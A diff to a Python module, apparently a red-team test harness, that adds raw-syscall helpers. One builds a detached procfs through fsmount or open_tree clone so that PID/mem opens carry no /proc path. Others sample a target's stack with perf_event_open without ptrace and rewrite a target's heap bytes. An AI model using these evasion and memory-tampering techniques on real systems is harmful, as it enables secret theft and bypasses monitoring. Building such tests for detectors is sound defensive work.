@@ -512,3 +512,166 @@ def wait_count(countfile: Path, at_least: int, seconds: float = 10.0) -> int:
             return n
         time.sleep(0.05)
     return n
+
+
+# --------------------------------------------------------------------- round 8: new kernel objects
+NR_OPEN_TREE, NR_FSOPEN, NR_FSCONFIG, NR_FSMOUNT = 428, 430, 431, 432
+OPEN_TREE_CLONE, FSCONFIG_CMD_CREATE = 1, 6
+
+
+def _sys(nr: int, *a: Any) -> int:
+    """A raw syscall through libc's syscall(2); OSError with the errno when it fails."""
+    lc = libc()
+    rc = int(lc.syscall(ctypes.c_long(nr), *a))
+    if rc < 0:
+        raise OSError(ctypes.get_errno(), f"syscall {nr}")
+    return rc
+
+
+def detached_proc(how: str) -> int:
+    """A directory fd of a procfs that is in NO mount table: no path ever names it.
+
+    ``fsmount``: a new procfs instance from the new mount API (fsopen, fsconfig
+    CREATE, fsmount), of the caller's PID namespace.  ``open_tree``: a detached
+    clone of the mount at /proc (``open_tree(OPEN_TREE_CLONE)``).  Either way,
+    ``openat(fd, "PID/mem")`` reaches a process's memory with a path that has
+    no ``/proc`` in it and a dirfd that was never opened by path.
+    """
+    c = ctypes.c_long
+    if how == "open_tree":
+        return _sys(NR_OPEN_TREE, c(-100), ctypes.c_char_p(b"/proc"), c(OPEN_TREE_CLONE | os.O_CLOEXEC))
+    if how != "fsmount":
+        raise ValueError(how)
+    fsfd = _sys(NR_FSOPEN, ctypes.c_char_p(b"proc"), c(0))
+    try:
+        _sys(NR_FSCONFIG, c(fsfd), c(FSCONFIG_CMD_CREATE), None, None, c(0))
+        return _sys(NR_FSMOUNT, c(fsfd), c(0), c(0))
+    finally:
+        os.close(fsfd)
+
+
+NR_PERF_EVENT_OPEN = 298
+PERF_TYPE_SOFTWARE, PERF_COUNT_SW_CPU_CLOCK, PERF_COUNT_SW_TASK_CLOCK = 1, 0, 1
+PERF_SAMPLE_TID, PERF_SAMPLE_REGS_USER, PERF_SAMPLE_STACK_USER = 0x2, 0x1000, 0x2000
+PERF_RECORD_SAMPLE = 9
+
+
+class _PerfAttr(ctypes.Structure):
+    """struct perf_event_attr up to sample_stack_user (PERF_ATTR_SIZE_VER5, 112 bytes)."""
+
+    _fields_ = [
+        ("type", ctypes.c_uint32), ("size", ctypes.c_uint32), ("config", ctypes.c_uint64),
+        ("sample_period", ctypes.c_uint64), ("sample_type", ctypes.c_uint64),
+        ("read_format", ctypes.c_uint64), ("flags", ctypes.c_uint64), ("wakeup_events", ctypes.c_uint32),
+        ("bp_type", ctypes.c_uint32), ("config1", ctypes.c_uint64), ("config2", ctypes.c_uint64),
+        ("branch_sample_type", ctypes.c_uint64), ("sample_regs_user", ctypes.c_uint64),
+        ("sample_stack_user", ctypes.c_uint32), ("clockid", ctypes.c_int32),
+        ("sample_regs_intr", ctypes.c_uint64),
+    ]  # fmt: skip
+
+
+def perf_user_stack(pid: int, seconds: float = 1.0, stack: int = 8192) -> tuple[int, int]:
+    """Sample ``pid``'s user stack with perf_event_open (no ptrace, no /proc): (samples, stack bytes copied).
+
+    A task-clock sampling event on another process, with PERF_SAMPLE_STACK_USER:
+    at every sample the kernel copies up to ``stack`` bytes of the target's user
+    stack (and its user registers) into a ring buffer the caller maps.  That is
+    a read of the target's memory by a process that never attached to it.
+    """
+    import mmap
+    import struct
+
+    attr = _PerfAttr()
+    attr.type, attr.size, attr.config = PERF_TYPE_SOFTWARE, ctypes.sizeof(_PerfAttr), PERF_COUNT_SW_TASK_CLOCK
+    attr.sample_period = 1_000_000  # every 1 ms of the target's CPU time
+    attr.sample_type = PERF_SAMPLE_TID | PERF_SAMPLE_REGS_USER | PERF_SAMPLE_STACK_USER
+    attr.sample_regs_user = 0xFF  # ax..di
+    attr.sample_stack_user = stack
+    attr.flags = 1 << 5 | 1 << 6  # exclude_kernel, exclude_hv (allowed at perf_event_paranoid 2)
+    attr.wakeup_events = 1
+    c = ctypes.c_long
+    fd = _sys(NR_PERF_EVENT_OPEN, ctypes.byref(attr), c(pid), c(-1), c(-1), c(0))
+    pages = 1 + 64
+    try:
+        ring = mmap.mmap(fd, pages * mmap.PAGESIZE, mmap.MAP_SHARED, mmap.PROT_READ | mmap.PROT_WRITE)
+    except OSError:
+        os.close(fd)
+        raise
+    try:
+        time.sleep(seconds)
+        head = struct.unpack_from("<Q", ring, 1024)[0]  # data_head
+        data_off, size = mmap.PAGESIZE, (pages - 1) * mmap.PAGESIZE
+        pos, samples, copied = 0, 0, 0
+        while pos < min(head, size) and samples < 10_000:
+            rtype, _misc, rsize = struct.unpack_from("<IHH", ring, data_off + pos % size)
+            if rsize == 0:
+                break
+            if rtype == PERF_RECORD_SAMPLE:
+                # pid, tid (8) | abi (8) + 8 regs (64) | stack size (8), data, dyn_size (8)
+                off = data_off + (pos + 8 + 8 + 8 + 64) % size
+                if off + 8 <= data_off + size:
+                    copied += struct.unpack_from("<Q", ring, off)[0]
+                samples += 1
+            pos += rsize
+        return samples, copied
+    finally:
+        ring.close()
+        os.close(fd)
+
+
+def build_tool(source: str, out: Path) -> Path:
+    """Compile ``redteam/native/<source>`` with gcc into ``out`` (a planted program, built at stage time)."""
+    import subprocess
+
+    out.parent.mkdir(parents=True, exist_ok=True)
+    src = Path(__file__).resolve().parent / "native" / source
+    subprocess.run(["gcc", "-O2", "-Wall", "-Werror", "-o", str(out), str(src)], check=True, timeout=120)
+    return out
+
+
+def detached_mem_rewrite(args: dict[str, Any], how: str) -> tuple[int, int, int]:
+    """Rewrite 32 bytes of the target's heap through ``PID/mem`` of a detached procfs (detached_proc).
+
+    Returns (act_ns, bytes written, address): the act is the mem open, taken
+    after the detached tree exists.
+    """
+    pid, addr = int(args["pid"]), target_addr(args, args["pid"])
+    tree = detached_proc(how)
+    try:
+        t = now()
+        n = rewrite_mem(os.open(f"{pid}/mem", os.O_RDWR, dir_fd=tree), addr)
+    finally:
+        os.close(tree)
+    return t, n, addr
+
+
+def run_touch(argv: list[str], marker: str) -> tuple[int, int, bool]:
+    """Run ``argv + ["touch 'MARKER'"]`` (a shell's ``-c`` form), wait for the marker: (act_ns, rc, made)."""
+    t = now()
+    rc = run_child([*argv, f"touch '{marker}'"])
+    return t, rc, wait_file(marker, 5)
+
+
+#: a git identity and no system config: git commits in a scratch repository, the same on every host
+GIT_ENV = {
+    "GIT_AUTHOR_NAME": "dev", "GIT_AUTHOR_EMAIL": "dev@localhost", "GIT_COMMITTER_NAME": "dev",
+    "GIT_COMMITTER_EMAIL": "dev@localhost", "GIT_CONFIG_NOSYSTEM": "1", "GIT_PAGER": "cat",
+}  # fmt: skip
+
+
+def git(cwd: str | Path, *a: str, home: str | Path) -> int:
+    """Run one git command in ``cwd`` with GIT_ENV and HOME=``home`` (bounded); its exit status."""
+    env = {**os.environ, **GIT_ENV, "HOME": str(home)}
+    return run_child(["git", *a], timeout=120, cwd=str(cwd), env=env)
+
+
+def post_json(host: str, port: int, path: str, body: str) -> bytes:
+    """One HTTP POST of a JSON body to a loopback API on a fresh connection; the response body."""
+    import http.client
+
+    conn = http.client.HTTPConnection(loopback(host), port, timeout=10)
+    try:
+        conn.request("POST", path, body, {"Content-Type": "application/json"})
+        return conn.getresponse().read()
+    finally:
+        conn.close()
